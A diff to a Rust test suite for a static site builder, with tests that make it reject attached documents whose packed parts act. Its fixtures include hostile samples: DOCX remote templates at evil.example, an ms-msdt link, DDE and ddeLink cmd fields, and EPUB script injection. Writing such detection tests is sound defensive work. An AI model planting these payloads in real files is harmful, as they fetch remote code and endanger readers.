@@ -349,6 +349,50 @@ fn attached_pages_scripts_and_programs() {
 }
 
 #[test]
+fn documents_whose_packed_parts_act() {
+    let epub = ("mimetype", &b"application/epub+zip"[..]);
+    let odt = ("mimetype", &b"application/vnd.oasis.opendocument.text"[..]);
+    let types = ("[Content_Types].xml", &b"<Types/>"[..]);
+    let relationship = |kind: &str, target: &str| {
+        format!(
+            "<Relationships><Relationship Id=\"a\" TargetMode=\"External\" Target=\"{target}\" \
+             Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}\"/></Relationships>"
+        )
+    };
+    let template = relationship("attachedTemplate", "https://evil.example/a.dotm");
+    let frame = relationship("frame", "\\\\evil.example\\a");
+    let link = relationship("hyperlink", "ms-msdt:/id PCWDiagnostic");
+    let field = "<w:p><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\a</w:instrText></w:p>";
+    for (name, files) in [
+        ("x.epub", [epub, ("a.xhtml", b"<html><script>alert(1)</script></html>")]),
+        ("x.epub", [epub, ("a.xhtml", b"<p onclick=\"alert(1)\">a</p>")]),
+        ("x.epub", [epub, ("a.dat", b"<svg><a href=\"java&#10;script:a\"/></svg>")]),
+        ("x.epub", [epub, ("a.xhtml", b"<img src=\"https://evil.example/a.png\"/>")]),
+        ("x.epub", [epub, ("a.css", b"a{background:url(//evil.example/a)}")]),
+        ("x.docx", [types, ("word/_rels/settings.xml.rels", template.as_bytes())]),
+        ("x.docx", [types, ("word/_rels/document.xml.rels", frame.as_bytes())]),
+        ("x.docx", [types, ("word/_rels/document.xml.rels", link.as_bytes())]),
+        ("x.docx", [types, ("word/document.xml", field.as_bytes())]),
+        ("x.xlsx", [types, ("xl/a.xml", b"<ddeLink ddeService=\"cmd\"/>")]),
+        ("x.pptx", [types, ("ppt/a.xml", b"<a action=\"ppaction://program?a\"/>")]),
+        ("x.odt", [odt, ("content.xml", b"<a><script:event-listener/></a>")]),
+        ("x.odt", [odt, ("content.xml", b"<draw:image xlink:href=\"http://evil.example/\"/>")]),
+        ("x.odt", [odt, ("settings.xml", b"<a><table:dde-link/></a>")]),
+    ] {
+        let path = format!("content/guides/first/{name}");
+        let sample = Sample::new()
+            .text("content/guides/first/sq.md", "I pari", &format!("[a]({name})\n"))
+            .bytes(&path, &support::archive(&files, true));
+        sample.check().are_about("attachment", &path);
+    }
+    let files = [epub, ("a.xhtml", b"<html><p>Fjal\xc3\xab</p></html>")];
+    let sample = Sample::new()
+        .text("content/guides/first/sq.md", "I pari", "[a](x.epub)\n")
+        .bytes("content/guides/first/x.epub", &support::archive(&files, true));
+    assert!(!sample.check().blocks());
+}
+
+#[test]
 fn addresses_that_hide_another_one() {
     for address in [
         "help@ngo.org?bcc=evil@x.y&body=hi",
@@ -434,12 +478,35 @@ fn a_register_that_lost_its_posters() {
     let whole = support::text_of(&folder.path().join("posters.lock"));
     std::fs::remove_dir_all(folder.path().join("content/posters")).expect("a folder");
     let lines: Vec<&str> = whole.lines().collect();
+    let last = lines[lines.len() - 1];
     let conflict = format!("<<<<<<< HEAD\n{whole}=======\n{whole}>>>>>>> other\n");
+    let entry =
+        &whole[whole.find("  - code").expect("an entry")..whole.find(last).expect("an end")];
     for damaged in [
         String::new(),
+        "\n\n".to_owned(),
+        "# Every poster code\n".to_owned(),
+        "posters: []\n".to_owned(),
+        "posters:\n".to_owned(),
+        "null\n".to_owned(),
+        "\0".repeat(whole.len()),
         lines[..3].join("\n"),
         lines[..lines.len() - 1].join("\n"),
-        format!("posters: []\n{}", lines[lines.len() - 1]),
+        whole[..whole.len() - 3].to_owned(),
+        whole[whole.len() / 2..].to_owned(),
+        format!("posters: []\n{last}"),
+        format!("{last}\n"),
+        format!("{last}\n{}", lines[..lines.len() - 1].join("\n")),
+        whole.replace(last, "# End: 0 posters, checksum e3b0c44298fc1c14"),
+        whole.replace(last, &format!("{entry}{last}")),
+        whole.replace("code: \"704\"", "code: \"705\""),
+        whole.replace("guides/first", "guides/other"),
+        whole.replace(last, &format!("{last} ")),
+        format!("{whole}{whole}"),
+        format!("{whole}x: 1\n"),
+        format!("{whole}# a note\n"),
+        whole.replacen('\n', "\n\n", 1),
+        whole.to_uppercase(),
         conflict,
     ] {
         folder.put("posters.lock", damaged.as_bytes());
@@ -449,29 +516,119 @@ fn a_register_that_lost_its_posters() {
         assert!(folder.path().join("public/704/index.html").exists(), "{damaged}");
         assert_eq!(support::text_of(&folder.path().join("posters.lock")), damaged);
     }
-    folder.put("posters.lock", whole.replace('\n', "\r\n").as_bytes());
-    assert_eq!(folder.fener(&["build"]).code, Some(0));
-    assert!(folder.path().join("public/704/index.html").exists());
+    for text in [whole.replace('\n', "\r\n"), whole.trim_end().to_owned(), format!("{whole}\n")] {
+        folder.put("posters.lock", text.as_bytes());
+        assert_eq!(folder.fener(&["build"]).code, Some(0), "{text:?}");
+        assert!(folder.path().join("public/704/index.html").exists());
+    }
+    // Two merged registers, whose last line was written by hand as the finding says.
+    folder.put("posters.lock", whole.replace(last, &format!("{entry}{last}")).as_bytes());
+    let told = folder.fener(&["check"]).stderr;
+    let expected = told.split('`').find(|part| part.starts_with("# End: 2")).expect("a last line");
+    let twice = whole.replace(last, &format!("{entry}{expected}"));
+    folder.put("posters.lock", twice.as_bytes());
+    let outcome = folder.fener(&["build"]);
+    assert!(outcome.stderr.contains("code 704 is listed twice"), "{outcome:?}");
+}
+
+/// Two versions of one file, with the same length.
+struct Versions {
+    path: &'static str,
+    old: Vec<u8>,
+    new: Vec<u8>,
+}
+
+/// A campaign with files of each kind, and a second version of each.
+fn versions() -> (Sample, Vec<Versions>) {
+    let of = |path, old: &[u8], new: &[u8]| {
+        assert_eq!(old.len(), new.len(), "{path}");
+        Versions { path, old: old.to_vec(), new: new.to_vec() }
+    };
+    let picture = |color: u8| {
+        let pixels = image::RgbImage::from_pixel(40, 30, image::Rgb([color, 9, 9]));
+        let mut png = std::io::Cursor::new(Vec::new());
+        pixels.write_to(&mut png, image::ImageFormat::Png).expect("a picture");
+        png.into_inner()
+    };
+    let facts = |number: &str| helpline("").replace("116006", number).into_bytes();
+    let long = |letter: u8| [b"%PDF-1.7\n".to_vec(), vec![letter; 2_000_000]].concat();
+    let guide = "![Një rrugë](x.png)\n\n![Një vizatim](y.svg)\n\n[Fletë](z.pdf)\n";
+    let sample = Sample::new().text("content/guides/first/sq.md", "I pari", guide).text(
+        "content/helplines/line/sq.md",
+        "Linja",
+        "",
+    );
+    let all = vec![
+        of("content/sq.md", b"---\ntitle: Rruga\n---\n", b"---\ntitle: Udha1\n---\n"),
+        of("content/helplines/line/facts.yaml", &facts("+355691111111"), &facts("+355692222222")),
+        of("content/guides/first/x.png", &picture(100), &picture(200)),
+        of(
+            "content/guides/first/y.svg",
+            drawing("<rect width=\"1\" height=\"1\"/>").as_bytes(),
+            drawing("<rect width=\"2\" height=\"2\"/>").as_bytes(),
+        ),
+        of("content/guides/first/z.pdf", &long(b'A'), &long(b'B')),
+        of("static/humans.txt", b"Team: a\n", b"Team: b\n"),
+        of("locales/sq.ftl", b"menu = Menuja\n", b"menu = Lista1\n"),
+        of("themes/fener/css/fener.css", b"body{margin:1px}", b"body{margin:2px}"),
+    ];
+    let sample = all.iter().fold(sample, |sample, file| sample.bytes(file.path, &file.old));
+    (sample, all)
 }
 
 #[test]
 fn a_version_unpacked_with_its_old_times_is_noticed() {
-    let path = "content/helplines/line/facts.yaml";
-    let facts = |number: &str| helpline("").replace("116006", number);
-    let folder = Sample::new()
-        .file(path, &facts("+355691111111"))
-        .text("content/helplines/line/sq.md", "Linja", "")
-        .write();
-    let old = folder.sh(&format!("touch -d @1700000000 {path}"));
-    assert_eq!(old.code, Some(0));
+    let (sample, all) = versions();
+    let folder = sample.write();
+    let old = "find . -type f -exec touch -d @1700000000 {} +";
+    folder.sh(old);
     assert_eq!(folder.fener(&["build"]).code, Some(0));
-    // The same size, time and inode.
-    folder.put(path, facts("+355692222222").as_bytes());
-    folder.sh(&format!("touch -d @1700000000 {path}"));
-    assert_eq!(folder.fener(&["build"]).code, Some(0));
-    let site = folder.files("public");
-    let site: String = site.values().map(|bytes| String::from_utf8_lossy(bytes)).collect();
-    assert!(site.contains("tel:+355692222222") && !site.contains("691111111"));
+    let mut last = folder.files("public");
+    for file in &all {
+        // The same size, time and inode; then a new inode.
+        folder.put(file.path, &file.new);
+        folder.sh(old);
+        assert_eq!(folder.fener(&["build"]).code, Some(0), "{}", file.path);
+        let site = folder.files("public");
+        assert!(site != last, "{} is not noticed", file.path);
+        folder.remove(file.path);
+        folder.put(file.path, &file.old);
+        folder.sh(old);
+        assert_eq!(folder.fener(&["build"]).code, Some(0), "{}", file.path);
+        assert!(folder.files("public") != site, "{} is not noticed", file.path);
+        last = folder.files("public");
+    }
+}
+
+#[test]
+fn a_file_that_changes_during_a_build_is_published_whole_or_not_at_all() {
+    let (sample, all) = versions();
+    let folder = sample.write();
+    for file in &all {
+        // Every file of the site as it is with each version, built in peace.
+        let mut sites = Vec::new();
+        for bytes in [&file.old, &file.new] {
+            folder.put(file.path, bytes);
+            assert_eq!(folder.fener(&["build"]).code, Some(0), "{}", file.path);
+            sites.push(folder.files("public"));
+        }
+        folder.put("old", &file.old);
+        folder.put("new", &file.new);
+        folder.sh("touch -d 2026-01-01 old new");
+        // There is a file at this path at any time.
+        let path = file.path;
+        let swap = format!("cp -p old next; mv -f next {path}; cp -p new next; mv -f next {path}");
+        let outcome = folder.sh(&format!(
+            "\"$fener\" build --no-sync --date 2026-11-22 & while kill -0 $! 2>/dev/null; do {swap}; done; wait $!"
+        ));
+        assert!(matches!(outcome.code, Some(0 | 1)), "{path}: {outcome:?}");
+        let new = folder.files("public");
+        for (name, bytes) in &new {
+            let is_known = sites.iter().any(|site| site.get(name) == Some(bytes));
+            assert!(is_known, "{path}: {name} is of no version");
+        }
+        folder.put(path, &file.old);
+    }
 }
 
 #[test]
@@ -482,6 +639,18 @@ fn numbers_and_days_that_cannot_be() {
         .text("content/helplines/line/sq.md", "Linja", "")
         .build();
     assert!(site.pages().all(|(_, page)| !page.contains("tel:+3550")));
+    let line = |facts: &str| {
+        let sample = Sample::new().file("content/helplines/line/facts.yaml", facts);
+        sample.text("content/helplines/line/sq.md", "Linja", "").check()
+    };
+    for ages in ["maximum_age: 200", "maximum_age: 121", "minimum_age: 150", "maximum_age: 255"] {
+        let findings = line(&format!("{}{ages}\n", helpline("")));
+        findings.are_about("bad-value", "content/helplines/line/facts.yaml");
+    }
+    for number in ["+999 123 4567", "+999999999", "+210 123 45678", "+296 12 3456", "+1(0) 999"] {
+        let findings = line(&helpline("").replace("116006", number));
+        findings.are_about("bad-number", "content/helplines/line/facts.yaml");
+    }
     let facts = helpline("").replace("2026-11-01", "2062-11-01");
     let sample = Sample::new().file("content/helplines/line/facts.yaml", &facts).text(
         "content/helplines/line/sq.md",
@@ -489,6 +658,24 @@ fn numbers_and_days_that_cannot_be() {
         "",
     );
     sample.check().are_about("bad-date", "content/helplines/line/facts.yaml");
+}
+
+#[test]
+fn addresses_of_the_site_that_no_reader_can_open() {
+    for address in [
+        "https://x.ngrok.io/",
+        "https://a-b.trycloudflare.com/c/",
+        "https://10-0-0-5.nip.io/",
+        "https://your-domain.org/",
+        "https://yourproject.netlify.app/",
+        "http://localhost:4000/",
+    ] {
+        let sample = Sample::new().replace("fener.yaml", "https://example.org/c/", address);
+        let findings = sample.check().lines();
+        assert!(findings.contains("warning[base-url-placeholder]"), "{address}: {findings}");
+    }
+    let sample = Sample::new().replace("fener.yaml", "https://example.org/c/", "https://rruga.al/");
+    sample.check().are([]);
 }
 
 #[test]
